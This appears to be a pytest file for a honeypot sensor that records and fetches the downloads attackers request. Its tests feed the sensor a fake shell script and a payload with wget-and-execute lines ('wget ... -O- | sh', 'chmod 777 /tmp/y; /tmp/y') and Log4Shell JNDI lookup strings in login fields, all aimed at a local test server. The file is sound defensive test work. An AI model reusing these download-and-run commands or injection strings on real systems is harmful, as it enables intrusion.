"""Wishes of rooms carried out: stated, answered in order, kept; also when the session has ended meanwhile."""

from __future__ import annotations

import asyncio
import hashlib
import threading
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest

from eudaemon.events import catalogue as facts
from eudaemon.payload.extract import PAYLOAD_BYTES_MAX, Extraction
from eudaemon.payload.fetch.policy import FetchSettings
from eudaemon.sensor import fetching
from eudaemon.sensor.fetching import LOOKED_BYTES_MAX
from eudaemon.sensor.session import LOOKUPS_MAX
from sensor.harness import events, running

LAB = FetchSettings(lab_networks=("127.0.0.0/8",))


class Site:
    """A web server with what a test puts into `files`; `gate` holds its answers back."""

    def __init__(self) -> None:
        self.files: dict[str, bytes] = {}
        self.asked: list[str] = []
        self.gate = asyncio.Event()
        self.gate.set()
        self.url = ""

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = await reader.readuntil(b"\r\n\r\n")
        path = head.split(b" ")[1].decode()
        self.asked.append(path)
        await self.gate.wait()
        body = self.files.get(path)
        status = b"404 Not Found" if body is None else b"200 OK"
        writer.write(b"HTTP/1.1 %s\r\nContent-Length: %d\r\n\r\n" % (status, len(body or b"")) + (body or b""))
        writer.close()


@asynccontextmanager
async def site(**files: bytes) -> AsyncIterator[Site]:
    it = Site()
    it.files = {f"/{name}": data for name, data in files.items()}
    server = await asyncio.start_server(it.serve, "127.0.0.1", 0)
    it.url = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"
    try:
        yield it
    finally:
        server.close()


async def test_a_wish_is_carried_out_stated_and_answered(tmp_path: Path) -> None:
    sample = bytes(range(256)) * 700
    async with site(x=sample) as it, running(tmp_path, "wisher", fetch=LAB) as sensor:
        url = f"{it.url}/x"
        answer = await sensor.say(url.encode())
        await sensor.until("download.finished")
    assert answer == f"{url} ok {sample[:20]!r}\n".encode()
    sha256 = hashlib.sha256(sample).hexdigest()
    assert events(tmp_path, "download.wished")[0].fact == facts.DownloadWished(url, "wget")
    assert events(tmp_path, "artefact.kept")[0].fact == facts.ArtefactKept(sha256, len(sample), "download", "x", url)
    finished = events(tmp_path, "download.finished")[0]
    assert isinstance(finished.fact, facts.DownloadFinished)
    assert (finished.fact.outcome, finished.fact.sha256, finished.fact.peer) == ("ok", sha256, "127.0.0.1")
    assert finished.session == events(tmp_path, "session.opened")[0].session
    assert (tmp_path / "artefacts" / sha256).read_bytes() == sample


async def test_answers_come_in_the_order_of_asking(tmp_path: Path) -> None:
    async with site(a=b"first") as it, running(tmp_path, "wisher", fetch=LAB) as sensor:
        it.gate.clear()
        reader, writer = await sensor.connect()
        writer.write(f"{it.url}/a gopher://h/ {it.url}/none".encode())
        await sensor.until("download.finished")  # the second is refused at once, but is not told before the first
        it.gate.set()
        lines = [await reader.readline() for _ in range(3)]
        writer.close()
    assert [line.split()[1] for line in lines] == [b"ok", b"refused", b"missing"]


async def test_a_download_goes_on_when_its_session_has_ended(tmp_path: Path) -> None:
    async with site(x=b"the binary") as it, running(tmp_path, "wisher", fetch=LAB, limits_total_s_max=0.4) as sensor:
        it.gate.clear()
        _, writer = await sensor.connect()
        writer.write(f"{it.url}/x".encode())
        await sensor.until("session.closed")
        writer.close()
        it.gate.set()
        await sensor.until("download.finished")
    kinds = [e.fact.kind for e in events(tmp_path) if e.session]
    assert kinds.index("session.closed") < kinds.index("artefact.kept")
    assert len({e.session for e in events(tmp_path) if e.session}) == 1


async def test_waiting_for_a_download_is_not_silence(tmp_path: Path) -> None:
    async with site(x=b"the binary") as it, running(tmp_path, "wisher", fetch=LAB, limits_idle_s_max=0.3) as sensor:
        it.gate.clear()
        reader, writer = await sensor.connect()
        writer.write(f"{it.url}/x".encode())
        await asyncio.sleep(1.0)
        it.gate.set()
        assert b" ok " in await reader.readline()
        assert await reader.read() == b""  # and then silence is silence again
        writer.close()


async def test_a_script_s_own_downloads_follow(tmp_path: Path) -> None:
    async with site(y=b"\x7fELF second stage") as it:
        it.files["/x"] = f"#!/bin/sh\nwget {it.url}/y -O /tmp/y; chmod 777 /tmp/y; /tmp/y\n".encode()
        async with running(tmp_path, "wisher", fetch=LAB) as sensor:
            await sensor.say(f"{it.url}/x".encode())
            await sensor.until("download.finished", count=2)
    assert [e.fact.url for e in events(tmp_path, "download.finished")] == [f"{it.url}/x", f"{it.url}/y"]  # type: ignore[attr-defined]
    kept = {p.read_bytes() for p in (tmp_path / "artefacts").iterdir()}
    assert b"\x7fELF second stage" in kept
    assert it.asked == ["/x", "/y"]


async def test_a_kept_payload_is_looked_into_once(tmp_path: Path) -> None:
    async with site(p=b"\x7fELF sample") as it, running(tmp_path, "catchall", fetch=LAB) as sensor:
        payload = b"\x7fELF\x01\x02\x03 xx;wget http://%s/p -O- | sh; \0\0" % it.url.removeprefix("http://").encode()
        for _ in range(3):
            await sensor.say(payload)
        await sensor.until("download.finished")
        await sensor.until("session.closed", count=3)
    assert it.asked == ["/p"]
    assert len(events(tmp_path, "download.wished")) == 1


async def test_of_payloads_that_wait_to_be_looked_into_no_more_is_held_than_is_looked_at(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert LOOKED_BYTES_MAX == PAYLOAD_BYTES_MAX
    gate, looked = threading.Event(), []

    def hidden(data: bytes, *_: object) -> Extraction:
        gate.wait(30)
        looked.append(len(data))
        return Extraction()

    monkeypatch.setattr(fetching, "_hidden", hidden)
    async with running(tmp_path, "catchall") as sensor:
        for number in range(4):
            await sensor.say(bytes((0xF0 + number,)) * (LOOKED_BYTES_MAX + 1000 * number))
        await sensor.until("artefact.kept", count=4)
        gate.set()
        async with asyncio.timeout(10):
            while len(looked) < 4:
                await asyncio.sleep(0.01)
    assert looked == [LOOKED_BYTES_MAX] * 4


async def test_a_session_cannot_wish_without_end(tmp_path: Path) -> None:
    async with site() as it, running(tmp_path, "wisher", fetch=LAB) as sensor:
        it.gate.clear()
        reader, writer = await sensor.connect()
        writer.write(b" ".join(f"{it.url}/{n}".encode() for n in range(33)))
        assert await reader.read() == b""
        writer.close()
        it.gate.set()
    assert [e.fact.reason for e in events(tmp_path, "peer.faulted")] == ["more than 32 downloads at once"]  # type: ignore[attr-defined]
    assert len(events(tmp_path, "download.wished")) == 32


async def test_the_policy_off_refuses_and_says_so(tmp_path: Path) -> None:
    async with running(tmp_path, "wisher") as sensor:
        assert b" refused " in await sensor.say(b"http://192.0.2.1/x")
    assert events(tmp_path, "download.finished")[0].fact == facts.DownloadFinished(
        "http://192.0.2.1/x", "refused", "policy"
    )


async def test_stopping_does_not_wait_for_downloads(tmp_path: Path) -> None:
    async with site() as it:
        it.gate.clear()
        async with running(tmp_path, "wisher", fetch=LAB) as sensor:
            _, writer = await sensor.connect()
            writer.write(f"{it.url}/x".encode())
            await sensor.until("download.wished")
        writer.close()
        it.gate.set()
    assert events(tmp_path, "sensor.stopped")
    assert not events(tmp_path, "sensor.faulted")


async def test_what_is_logged_of_a_peer_is_looked_up(tmp_path: Path) -> None:
    """Log4Shell in a user name and in a password, at rooms that know nothing of Java."""
    asked: list[bytes] = []

    async def directory(reader: asyncio.StreamReader, _: asyncio.StreamWriter) -> None:
        asked.append(await reader.read(100))

    server = await asyncio.start_server(directory, "127.0.0.1", 0)
    url = f"ldap://127.0.0.1:{server.sockets[0].getsockname()[1]}/x"
    lab = FetchSettings(lab_networks=("127.0.0.0/8",), idle_s_max=0.05)
    async with server, running(tmp_path, "telnet+ldap", fetch=lab) as sensor:
        await sensor.say(url.replace("ldap", "root\r\n${jndi:${lower:L}dap", 1).encode() + b"}\r\n")
        await sensor.until("download.finished")
        tries = (b"cn=${jndi:ldap://127.0.0.1:9/%02d}" % number for number in range(LOOKUPS_MAX + 1))
        await sensor.say(b"".join(b"\x30\x2d\2\1\1\x60\x28\2\1\3\4\x20%s\x80\1x" % name for name in tries))
        await sensor.until("session.closed", count=2)
    assert asked[0].startswith(b"\x30\x0c\2\1\1\x60")
    found = [event.fact for event in events(tmp_path, "exploit.recognised")]
    assert found[0] == facts.ExploitRecognised("log4shell", "CVE-2021-44228", url)
    assert len(events(tmp_path, "login.tried")) == 1 + LOOKUPS_MAX + 1
    assert len(found) == 1 + LOOKUPS_MAX
    assert not events(tmp_path, "sensor.faulted")
